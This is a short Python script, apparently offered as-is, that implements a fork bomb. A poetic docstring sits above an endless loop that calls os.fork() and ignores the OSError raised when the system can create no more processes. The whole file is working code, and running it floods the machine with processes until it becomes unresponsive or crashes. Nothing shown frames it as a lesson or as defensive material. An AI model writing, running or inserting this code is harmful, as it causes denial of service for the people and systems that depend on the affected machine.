"""Every process makes two, for ever."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
